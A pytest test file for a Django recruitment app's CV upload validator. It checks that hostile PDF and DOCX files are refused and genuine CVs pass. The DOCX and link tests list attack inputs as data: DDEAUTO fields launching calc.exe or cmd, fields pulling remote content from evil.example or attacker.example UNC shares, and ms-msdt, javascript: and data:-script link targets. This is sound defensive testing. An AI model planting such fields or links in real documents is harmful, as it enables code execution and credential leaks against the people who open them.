"""CV validation by content: every hostile file is refused with its code, real CVs pass.

Runs with or without the project's settings: under pytest-django the settings are already
configured; run alone (``pytest tests/recruitment/cvs/test_uploads.py -p no:django``) a minimal
configuration is made below. Every call passes ``max_bytes`` explicitly.
"""

from __future__ import annotations

import hashlib
import io
import logging
import os
import threading
import tracemalloc

import django
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.test import override_settings

from recruitment.cvs.checks import (
    DOCX_CONTENT_TYPE,
    PDF_CONTENT_TYPE,
    REJECTION_MESSAGES,
    CvRejected,
    InspectedCv,
    SizeCappedUploadHandler,
    inspect_cv,
)
from recruitment.cvs.checks.docx import MAX_FIELD_CODE, MAX_FIELD_DEPTH, MAX_XML_DEPTH, check_docx
from recruitment.cvs.checks.links import is_unsafe_link
from recruitment.cvs.checks.pdf import _pypdf_warnings
from recruitment.cvs.checks.pdf_budget import MAX_PDF_STRING_BYTES, MAX_PDF_STRING_TOTAL_BYTES
from tests.hostile.corpus import EXPECTED_REJECTION, GOOD_CVS, HOSTILE_CVS, HOSTILE_MAX_BYTES
from tests.hostile.docx import (
    MC_NS,
    build_docx,
    document_xml,
    docx_vba_project,
    docx_with_field,
    field_runs,
    valid_docx,
    valid_docx_parts,
)
from tests.hostile.filenames import hostile_filenames
from tests.hostile.other_types import legacy_word_doc, oversized_cv, windows_executable
from tests.hostile.pdf import (
    pdf_garbage,
    pdf_launch_action,
    pdf_with_info,
    valid_pdf,
    valid_pdf_with_binary_image,
    valid_pdf_with_many_strings,
)


def _configure_django_when_run_alone() -> None:
    """Configure just enough of Django for lazy translations and upload handlers, unless the
    project's pytest-django setup has configured it already."""
    if not settings.configured:
        settings.configure(USE_I18N=True)
        django.setup()


_configure_django_when_run_alone()

EXPECTED_CONTENT_TYPE = {"pdf": PDF_CONTENT_TYPE, "docx": DOCX_CONTENT_TYPE}


def _named_file(data: bytes, name: str) -> io.BytesIO:
    """A file object carrying a client-supplied name, as uploads do."""
    fileobj = io.BytesIO(data)
    fileobj.name = name
    return fileobj


def _rejection(data: bytes, *, max_bytes: int = HOSTILE_MAX_BYTES) -> CvRejected:
    with pytest.raises(CvRejected) as caught:
        inspect_cv(io.BytesIO(data), max_bytes=max_bytes)
    return caught.value


# --------------------------------------------------------------------------------------------
# Hostile files
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE_CVS))
def test_hostile_file_is_rejected_with_its_expected_code(name: str) -> None:
    # Given a hostile file
    data = HOSTILE_CVS[name]()

    # When it is inspected
    rejection = _rejection(data)

    # Then it is refused for the expected reason
    assert rejection.code == EXPECTED_REJECTION[name]


@pytest.mark.parametrize("name", sorted(HOSTILE_CVS))
def test_rejection_message_is_candidate_text_that_never_echoes_the_file_name(name: str) -> None:
    # Given a hostile file uploaded under a distinctive name
    filename = "jane-doe-cv-7f3a9.pdf"
    fileobj = _named_file(HOSTILE_CVS[name](), filename)

    # When it is inspected
    with pytest.raises(CvRejected) as caught:
        inspect_cv(fileobj, max_bytes=HOSTILE_MAX_BYTES)

    # Then the message is non-empty text that names neither the file nor its stem
    message = str(caught.value.message)
    assert message.strip()
    assert filename not in message
    assert "7f3a9" not in message


@pytest.mark.parametrize(
    "filename",
    hostile_filenames(),
    ids=[f"hostile_name_{i}" for i in range(len(hostile_filenames()))],
)
def test_hostile_file_name_never_appears_in_the_rejection(filename: str) -> None:
    # Given a macro-laden DOCX uploaded under a hostile name
    fileobj = _named_file(docx_vba_project(), filename)

    # When it is inspected
    with pytest.raises(CvRejected) as caught:
        inspect_cv(fileobj, max_bytes=HOSTILE_MAX_BYTES)

    # Then neither the message nor the exception text carries the name
    rejection = caught.value
    assert rejection.code == "docx_macros"
    if filename:
        assert filename not in str(rejection.message)
        assert filename not in str(rejection)


def test_every_expected_code_is_a_documented_code_with_a_message() -> None:
    # Given the codes the hostile registry expects
    expected_codes = set(EXPECTED_REJECTION.values())

    # Then each has a standard, non-empty message
    assert expected_codes <= set(REJECTION_MESSAGES)
    assert all(str(message).strip() for message in REJECTION_MESSAGES.values())


def test_unsupported_type_message_names_the_accepted_formats() -> None:
    rejection = _rejection(windows_executable())

    message = str(rejection.message)
    assert "PDF" in message
    assert ".docx" in message


def test_legacy_word_file_gets_a_message_about_doc_and_passwords() -> None:
    rejection = _rejection(legacy_word_doc())

    assert rejection.code == "unsupported_type"
    assert ".doc" in str(rejection.message)
    assert "password" in str(rejection.message)


def test_parser_errors_are_not_chained_into_the_rejection() -> None:
    # Given a PDF pypdf cannot parse (its error text may quote the file)
    data = pdf_garbage()

    # When it is rejected
    rejection = _rejection(data)

    # Then the parser's exception is neither the cause nor shown as context
    assert rejection.code == "pdf_malformed"
    assert rejection.__cause__ is None
    assert rejection.__suppress_context__


def test_pypdf_warnings_from_other_threads_do_not_count_against_this_upload() -> None:
    # Given a PDF being checked while another request's PDF makes pypdf warn
    logger = logging.getLogger("pypdf._reader")
    with _pypdf_warnings() as counter:
        other_request = threading.Thread(target=logger.warning, args=("another request",))
        other_request.start()
        other_request.join()
        # Then the other thread's warning is not held against this upload
        assert counter.count == 0

        # But a warning raised while parsing this upload is
        logger.warning("this request")
    assert counter.count == 1


# --------------------------------------------------------------------------------------------
# Good files
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(GOOD_CVS))
def test_real_world_cv_is_accepted_and_described_by_the_server(name: str) -> None:
    # Given a legitimate CV
    generator, kind = GOOD_CVS[name]
    data = generator()

    # When it is inspected
    inspected = inspect_cv(io.BytesIO(data), max_bytes=HOSTILE_MAX_BYTES)

    # Then kind, content type, size and digest describe exactly these bytes
    assert inspected == InspectedCv(
        kind=kind,
        content_type=EXPECTED_CONTENT_TYPE[kind],
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )


def test_docx_with_external_hyperlink_is_accepted() -> None:
    inspected = inspect_cv(io.BytesIO(valid_docx()), max_bytes=HOSTILE_MAX_BYTES)

    assert inspected.kind == "docx"
    assert inspected.content_type == DOCX_CONTENT_TYPE


def test_pdf_of_300_kb_is_accepted() -> None:
    # Given a valid PDF padded to 300 KB
    data = valid_pdf(size_bytes=300 * 1024)
    assert len(data) == 300 * 1024

    # When it is inspected under a 10 MB limit
    inspected = inspect_cv(io.BytesIO(data), max_bytes=10 * 1024 * 1024)

    # Then it passes with its real size
    assert inspected.kind == "pdf"
    assert inspected.size == 300 * 1024


def test_file_exactly_at_the_limit_is_accepted() -> None:
    data = valid_pdf(size_bytes=50_000)

    inspected = inspect_cv(io.BytesIO(data), max_bytes=50_000)

    assert inspected.size == 50_000


def test_file_one_byte_over_the_limit_is_rejected_as_too_large() -> None:
    data = oversized_cv(50_000)

    rejection = _rejection(data, max_bytes=50_000)

    assert rejection.code == "too_large"


def test_django_uploaded_file_is_accepted() -> None:
    upload = SimpleUploadedFile("cv.pdf", valid_pdf(), content_type="text/html")

    inspected = inspect_cv(upload, max_bytes=HOSTILE_MAX_BYTES)

    # The client's Content-Type is ignored; the server chooses.
    assert inspected.content_type == PDF_CONTENT_TYPE


def test_client_content_type_and_file_name_do_not_make_an_executable_acceptable() -> None:
    upload = SimpleUploadedFile("cv.pdf", windows_executable(), content_type="application/pdf")

    with pytest.raises(CvRejected) as caught:
        inspect_cv(upload, max_bytes=HOSTILE_MAX_BYTES)

    assert caught.value.code == "unsupported_type"


# --------------------------------------------------------------------------------------------
# Reading: position, repeatability, limits
# --------------------------------------------------------------------------------------------


class _CountingFile(io.BytesIO):
    """A file that records how many bytes were read from it."""

    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


def test_inspection_reads_from_the_start_whatever_the_current_position() -> None:
    # Given a file whose position was left at the end by an earlier reader
    data = valid_pdf()
    fileobj = io.BytesIO(data)
    fileobj.seek(0, os.SEEK_END)

    # When it is inspected
    inspected = inspect_cv(fileobj, max_bytes=HOSTILE_MAX_BYTES)

    # Then the whole file was seen, and the position is back at the start for storage
    assert inspected.sha256 == hashlib.sha256(data).hexdigest()
    assert fileobj.tell() == 0


def test_position_is_reset_after_a_rejection() -> None:
    fileobj = io.BytesIO(pdf_launch_action())
    fileobj.seek(10)

    with pytest.raises(CvRejected):
        inspect_cv(fileobj, max_bytes=HOSTILE_MAX_BYTES)

    assert fileobj.tell() == 0


def test_inspecting_twice_gives_the_same_answer() -> None:
    fileobj = io.BytesIO(valid_docx())

    first = inspect_cv(fileobj, max_bytes=HOSTILE_MAX_BYTES)
    second = inspect_cv(fileobj, max_bytes=HOSTILE_MAX_BYTES)

    assert first == second


def test_oversized_file_is_not_read_much_past_the_limit() -> None:
    # Given a 5 MB file and a 1 MB limit
    fileobj = _CountingFile(valid_pdf(size_bytes=5 * 1024 * 1024))

    # When it is inspected
    with pytest.raises(CvRejected) as caught:
        inspect_cv(fileobj, max_bytes=1024 * 1024)

    # Then reading stopped within one chunk of the limit
    assert caught.value.code == "too_large"
    assert fileobj.bytes_read <= 1024 * 1024 + 64 * 1024


def test_file_declaring_a_size_over_the_limit_is_rejected_without_reading() -> None:
    # Given an upload whose reported size is over the limit (as the capped handler reports a
    # truncated file) but whose stored bytes are a small valid PDF
    upload = SimpleUploadedFile("cv.pdf", valid_pdf())
    upload.size = 10_000_000

    # When it is inspected
    with pytest.raises(CvRejected) as caught:
        inspect_cv(upload, max_bytes=1_000_000)

    # Then it is too large: the truncated content is never judged on its own
    assert caught.value.code == "too_large"


def test_too_large_message_tells_the_candidate_the_limit() -> None:
    rejection = _rejection(oversized_cv(5 * 1024 * 1024), max_bytes=5 * 1024 * 1024)

    assert rejection.code == "too_large"
    assert "5 MB" in str(rejection.message)


# --------------------------------------------------------------------------------------------
# PDF parsing cost: strings are measured before pypdf parses them
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["pdf_huge_literal_string", "pdf_huge_hex_string", "pdf_many_long_strings"]
)
def test_oversized_strings_are_refused_before_pypdf_reads_the_file(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a PDF whose strings would cost pypdf seconds to parse, and a pypdf that records
    # being asked to read anything
    opened: list[object] = []

    def recording_reader(*args: object, **kwargs: object) -> None:
        opened.append(args)
        raise AssertionError("pypdf was reached")

    monkeypatch.setattr("recruitment.cvs.checks.pdf.PdfReader", recording_reader)

    # When it is inspected
    rejection = _rejection(HOSTILE_CVS[name]())

    # Then the pre-scan refused it as too complex, and pypdf never saw it
    assert rejection.code == "pdf_too_complex"
    assert opened == []


def test_a_string_as_long_as_the_cap_is_accepted_and_one_byte_longer_is_not() -> None:
    # Given two titles: one exactly MAX_PDF_STRING_BYTES long with its parentheses, one longer
    at_cap = pdf_with_info(b"/Title (" + b"A" * (MAX_PDF_STRING_BYTES - 2) + b")")
    over_cap = pdf_with_info(b"/Title (" + b"A" * (MAX_PDF_STRING_BYTES - 1) + b")")

    # Then the first passes and the second is too complex
    assert inspect_cv(io.BytesIO(at_cap), max_bytes=HOSTILE_MAX_BYTES).kind == "pdf"
    assert _rejection(over_cap).code == "pdf_too_complex"


@pytest.mark.parametrize(
    "title",
    [
        # Escaped parentheses do not close the string.
        b"(" + b"\\)" * (MAX_PDF_STRING_BYTES // 2) + b")",
        # Balanced parentheses nest: the first ")" closes the innermost pair only.
        b"(" + b"(" * (MAX_PDF_STRING_BYTES // 2) + b")" * (MAX_PDF_STRING_BYTES // 2) + b")",
    ],
    ids=["escaped", "nested"],
)
def test_a_long_string_is_measured_whole_whatever_its_parentheses(title: bytes) -> None:
    rejection = _rejection(pdf_with_info(b"/Title " + title))

    assert rejection.code == "pdf_too_complex"


def test_an_escaped_backslash_leaves_the_next_parenthesis_closing_the_string() -> None:
    # Given a title ending in an escaped backslash, then two strings each under the cap: read
    # as escaping the ")", the backslash would make one string of all three, over the cap
    half_cap = b"A" * (MAX_PDF_STRING_BYTES * 2 // 3)
    entries = b"/Title (C:\\\\) /K1 (" + half_cap + b") /K2 (" + half_cap + b")"

    # When it is inspected
    inspected = inspect_cv(io.BytesIO(pdf_with_info(entries)), max_bytes=HOSTILE_MAX_BYTES)

    # Then it passes: three strings, each measured on its own
    assert inspected.kind == "pdf"


def test_a_comment_longer_than_the_cap_is_refused() -> None:
    # pypdf skips comments byte by byte too, and a comment hides whatever is on its line.
    data = pdf_with_info(b"/Title (CV) %" + b"c" * MAX_PDF_STRING_BYTES + b"\n")

    assert _rejection(data).code == "pdf_too_complex"


def test_stream_data_is_never_taken_for_strings() -> None:
    # Given an image larger than the cap on all strings together, its data full of unbalanced
    # "(" and "<" (compressed images and fonts may hold any byte)
    data = valid_pdf_with_binary_image(side=1024)
    assert len(data) > MAX_PDF_STRING_TOTAL_BYTES

    # When it is inspected
    inspected = inspect_cv(io.BytesIO(data), max_bytes=HOSTILE_MAX_BYTES)

    # Then it passes
    assert inspected.kind == "pdf"


def test_a_cv_with_many_small_strings_is_accepted() -> None:
    inspected = inspect_cv(io.BytesIO(valid_pdf_with_many_strings()), max_bytes=HOSTILE_MAX_BYTES)

    assert inspected.kind == "pdf"


# --------------------------------------------------------------------------------------------
# DOCX fields: nothing that runs a program or reads a file or URL, however it is written
# --------------------------------------------------------------------------------------------


def _docx_with_body(body: str) -> bytes:
    return build_docx({**valid_docx_parts(), "word/document.xml": document_xml(body)})


@pytest.mark.parametrize(
    "code",
    [
        ' INCLUDEPICTURE "https://tracker.example/p.png" \\d ',
        'INCLUDEPICTURE"https://tracker.example/p.png"',
        ' \t includetext  "C:\\\\Users\\\\Public\\\\notes.docx" ',
        ' "INCLUDETEXT" "https://evil.example/x.docx" ',
        ' IN"CLUDE"TEXT "https://evil.example/x.docx" ',
        ' INCLUDE "https://evil.example/x.docx" ',
        " \uff29\uff2e\uff23\uff2c\uff35\uff24\uff25\uff30\uff29\uff23\uff34\uff35\uff32\uff25"
        ' "https://tracker.example/p.png" ',
        ' INCLUDE\u200bPICTURE "https://tracker.example/p.png" ',
        ' LINK Word.Document.12 "https://evil.example/x.docx" "" \\a ',
        ' import "https://tracker.example/logo.png" ',
        ' RD "\\\\\\\\attacker.example\\\\share\\\\x.docx" ',
        ' DATABASE \\d "\\\\\\\\attacker.example\\\\share\\\\x.mdb" \\s "SELECT * FROM t" ',
        ' DATA "\\\\\\\\attacker.example\\\\share\\\\people.xlsx" ',
    ],
    ids=[
        "includepicture",
        "no_space_before_the_target",
        "tab_and_lower_case_local_path",
        "quoted_name",
        "name_joined_by_quotes",
        "word6_include",
        "full_width_name",
        "zero_width_space_in_name",
        "link",
        "import",
        "rd",
        "database",
        "word6_data",
    ],
)
def test_field_that_reads_a_file_or_url_is_refused_however_it_is_written(code: str) -> None:
    # Given a DOCX with a field that makes Word read a file or URL when it updates fields
    data = docx_with_field(code)

    # When it is inspected, then it is refused as content from outside the document
    assert _rejection(data).code == "docx_external_relationship"


@pytest.mark.parametrize(
    "body",
    [
        "<w:p>" + field_runs(" D\u200bDEAUTO c:\\\\windows\\\\calc.exe ") + "</w:p>",
        "<w:p>" + field_runs(" \uff24\uff24\uff25 cmd /k calc ") + "</w:p>",
        # "DD", then a symbol character Word supplies, then "AUTO".
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:sym w:font="Arial" w:char="0045"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\x.exe</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # The whole name is a nested field's result: a document property that may say DDE.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + field_runs(" DOCPROPERTY Category ", result="DDE")
        + '<w:r><w:instrText xml:space="preserve"> c:\\\\x.exe</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ],
    ids=["zero_width_space", "full_width", "symbol_in_name", "name_from_nested_field"],
)
def test_command_field_hidden_in_its_name_is_refused(body: str) -> None:
    assert _rejection(_docx_with_body(body)).code == "docx_active_content"


def test_instruction_text_after_a_field_separator_is_refused() -> None:
    # Given a PAGE field whose result holds the code of another field (Word never writes
    # instruction text there, so it is not worth guessing what Word makes of it)
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">INCLUDEPICTURE "https://t.example/p"</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )

    assert _rejection(_docx_with_body(body)).code == "docx_external_relationship"


@pytest.mark.parametrize(
    "code",
    [
        ' HYPERLINK "file:///C:/Windows/System32/calc.exe" ',
        ' HYPERLINK "javascript:alert(1)" ',
        " HYPERLINK \\\\\\\\attacker.example\\\\share ",
        ' HYPERLINK \\o "Portfolio" "ms-msdt:/id PCWDiagnostic" ',
        ' HYPERLINK "https://example.com/' + "a" * MAX_FIELD_CODE + '" ',
    ],
    ids=["file", "javascript", "unquoted_unc_path", "after_a_tooltip", "longer_than_the_cap"],
)
def test_hyperlink_field_to_anything_but_the_web_email_or_phone_is_refused(code: str) -> None:
    assert _rejection(docx_with_field(code)).code == "unsafe_link"


def test_hyperlink_field_whose_target_word_computes_is_refused() -> None:
    # Given a HYPERLINK whose target is a nested field's result, known only once Word runs it
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> HYPERLINK "</w:instrText></w:r>'
        + field_runs(" DOCPROPERTY Manager ", result="https://example.com")
        + '<w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )

    assert _rejection(_docx_with_body(body)).code == "unsafe_link"


def test_field_mark_in_one_branch_of_alternate_content_is_refused() -> None:
    # Given a PAGE field whose separate mark is in a branch Word skips (it knows no "w99"):
    # Word would read the text after it as more code, a scanner reading both branches as
    # the field's result
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        f'<w:r><mc:AlternateContent xmlns:mc="{MC_NS}"><mc:Choice Requires="w99">'
        '<w:fldChar w:fldCharType="separate"/></mc:Choice><mc:Fallback/></mc:AlternateContent>'
        "</w:r>"
        '<w:r><w:t>INCLUDEPICTURE "https://tracker.example/p.png"</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )

    # When it is inspected, then the two readings are not reconciled but refused
    assert _rejection(_docx_with_body(body)).code == "docx_malformed"


def test_pages_of_instruction_text_outside_any_field_are_refused() -> None:
    run = '<w:r><w:instrText xml:space="preserve">PAGE </w:instrText></w:r>'
    body = "<w:p>" + run * (MAX_FIELD_CODE // 5 + 1) + "</w:p>"

    assert _rejection(_docx_with_body(body)).code == "docx_malformed"


def test_fields_nested_deeper_than_the_cap_are_refused() -> None:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    body = "<w:p>" + begin * (MAX_FIELD_DEPTH + 1) + "</w:p>"

    assert _rejection(_docx_with_body(body)).code == "docx_malformed"


def test_xml_nested_deeper_than_the_cap_is_refused() -> None:
    body = "<w:sdt>" * MAX_XML_DEPTH + "</w:sdt>" * MAX_XML_DEPTH

    assert _rejection(_docx_with_body(body)).code == "docx_malformed"


def test_a_large_part_is_scanned_in_flat_memory() -> None:
    # Given a 7 MB main part of 200 000 runs outside any paragraph
    runs = "".join(f"<w:r><w:t>{i * 7919 % 1_000_003}</w:t></w:r>" for i in range(200_000))
    data = _docx_with_body(runs)

    # When it is checked
    tracemalloc.start()
    try:
        check_docx(data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    # Then it passes, holding a small part of what the parsed part would take
    assert peak < 5 * 1024 * 1024


# --------------------------------------------------------------------------------------------
# Links
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://www.linkedin.com/in/jane-doe",
        "http://portfolio.example/work",
        "mailto:jane@example.com",
        "tel:+441234567890",
        "www.example.com",
    ],
)
def test_web_email_and_phone_links_are_safe(target: str) -> None:
    assert not is_unsafe_link(target)


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        " JAVASCRIPT:alert(1)",
        "vbscript:msgbox(1)",
        "file:///C:/Windows/System32/calc.exe",
        "\\\\attacker.example\\share\\x",
        "//attacker.example/share",
        "ms-msdt:/id PCWDiagnostic",
        "search-ms:query=x",
        "data:text/html,<script>alert(1)</script>",
        "C:\\Windows\\System32\\calc.exe",
    ],
)
def test_script_file_network_and_protocol_handler_links_are_unsafe(target: str) -> None:
    assert is_unsafe_link(target)


# --------------------------------------------------------------------------------------------
# SizeCappedUploadHandler
# --------------------------------------------------------------------------------------------


def _upload_through_handler(
    handler: SizeCappedUploadHandler, chunks: list[bytes], *, name: str = "cv.pdf"
) -> TemporaryUploadedFile:
    handler.new_file("cv", name, "application/pdf", sum(map(len, chunks)))
    start = 0
    for chunk in chunks:
        assert handler.receive_data_chunk(chunk, start) is None
        start += len(chunk)
    uploaded = handler.file_complete(start)
    assert isinstance(uploaded, TemporaryUploadedFile)
    return uploaded


def test_handler_reports_the_full_size_but_writes_at_most_max_bytes() -> None:
    # Given a handler capped at 100 000 bytes
    handler = SizeCappedUploadHandler(max_bytes=100_000)
    chunks = [bytes([i]) * 65_536 for i in range(10)]

    # When 640 KiB are streamed through it
    uploaded = _upload_through_handler(handler, chunks)
    try:
        # Then the size is the real total, but the disk holds only the first max_bytes
        assert uploaded.size == 655_360
        on_disk = os.path.getsize(uploaded.temporary_file_path())
        assert on_disk <= 100_000
        assert uploaded.read() == b"".join(chunks)[:100_000]
    finally:
        uploaded.close()


def test_handler_keeps_a_file_within_the_limit_intact() -> None:
    data = valid_pdf()
    handler = SizeCappedUploadHandler(max_bytes=len(data))

    uploaded = _upload_through_handler(handler, [data[:500], data[500:]])
    try:
        assert uploaded.size == len(data)
        assert uploaded.read() == data
        assert inspect_cv(uploaded, max_bytes=len(data)).kind == "pdf"
    finally:
        uploaded.close()


def test_handler_output_for_an_oversized_upload_is_rejected_by_inspect_cv() -> None:
    # Given an oversized valid PDF truncated by the handler
    data = valid_pdf(size_bytes=300_000)
    handler = SizeCappedUploadHandler(max_bytes=100_000)
    uploaded = _upload_through_handler(
        handler, [data[i : i + 65_536] for i in range(0, 300_000, 65_536)]
    )
    try:
        # When the truncated file is inspected
        with pytest.raises(CvRejected) as caught:
            inspect_cv(uploaded, max_bytes=100_000)

        # Then it is too large, not judged on its truncated bytes
        assert caught.value.code == "too_large"
    finally:
        uploaded.close()


def test_handler_counts_each_file_separately() -> None:
    handler = SizeCappedUploadHandler(max_bytes=1000)
    first = _upload_through_handler(handler, [b"a" * 5000])
    second = _upload_through_handler(handler, [b"b" * 10])
    try:
        assert first.size == 5000
        assert second.size == 10
        assert second.read() == b"b" * 10
    finally:
        first.close()
        second.close()


def test_handler_default_limit_is_read_from_settings_when_built() -> None:
    with override_settings(CV_MAX_BYTES=1234):
        small = SizeCappedUploadHandler()
    with override_settings(CV_MAX_BYTES=5678):
        large = SizeCappedUploadHandler()

    assert small.max_bytes == 1234
    assert large.max_bytes == 5678
